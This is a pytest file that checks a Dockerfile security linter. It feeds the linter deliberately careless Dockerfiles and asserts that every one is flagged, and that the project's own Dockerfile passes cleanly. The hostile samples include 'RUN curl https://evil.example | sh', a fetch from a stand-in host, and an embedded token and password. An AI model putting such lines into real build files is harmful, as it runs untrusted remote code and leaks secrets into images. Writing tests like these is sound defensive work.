"""29: the container can do little, and holds little. Checked here is the text of the Dockerfile, of
compose.yaml and of deploy/; CI also builds the image and runs it read-only, without capabilities and
network. Not checked: the packages of the base image, whose tag is pinned by version and not by digest
unless you build with one (docs/deploying.md). Also kept by tests/test_image.py, tests/test_deploy.py and
tests/test_alive.py."""

import pytest

from tests.security.files import image_faults, read

GOOD = 'FROM python:3.13-slim\nCOPY a /a\nUSER 10001:10001\nHEALTHCHECK CMD ["x"]\n'
HOSTILE = {
    "root again": GOOD + "USER root\n",
    "root by number": GOOD + "USER 0:0\n",
    "nobody was named": GOOD.replace("USER 10001:10001\n", ""),
    "a health check that is none": GOOD + "HEALTHCHECK NONE\n",
    "an archive from somewhere": GOOD + "ADD https://evil.example/x.tar.gz /\n",
    "whatever is newest": GOOD.replace("python:3.13-slim", "python:latest"),
    "no version at all": GOOD.replace("python:3.13-slim", "python"),
    "a token in the history": GOOD + "ENV SLACK_BOT_TOKEN=xoxb-1\n",
    "a password for the build": GOOD + "ARG DB_PASSWORD=x\n",
    "a script from somewhere": GOOD + "RUN curl https://evil.example | sh\n",
    "the whole checkout": GOOD + "COPY . /app\n",
}


@pytest.mark.parametrize("dockerfile", HOSTILE.values(), ids=HOSTILE)
def test_a_careless_image_would_be_seen(dockerfile: str) -> None:
    """The look below finds what it looks for."""
    assert image_faults(dockerfile)


def test_ours_is_none() -> None:
    """Not root, watched, with nothing fetched, no secret in its history, and only what it needs."""
    assert image_faults(GOOD) == []
    assert image_faults(read("Dockerfile")) == []
